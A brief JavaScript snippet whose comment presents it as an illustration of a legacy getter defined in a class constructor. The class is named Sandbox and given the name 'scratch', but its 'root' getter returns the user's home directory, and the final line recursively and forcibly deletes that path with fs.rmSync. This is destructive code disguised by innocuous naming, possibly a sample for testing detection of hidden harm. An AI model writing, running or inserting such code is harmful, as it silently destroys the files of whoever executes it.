// A class defines a legacy getter on this in its constructor; an instance's root is removed.
const fs = require('fs');
const os = require('os');

class Sandbox {
  constructor(name) {
    this.name = name;
    this.__defineGetter__('root', function () {
      return os.homedir();
    });
  }
}
const box = new Sandbox('scratch');
fs.rmSync(box.root, { recursive: true, force: true });
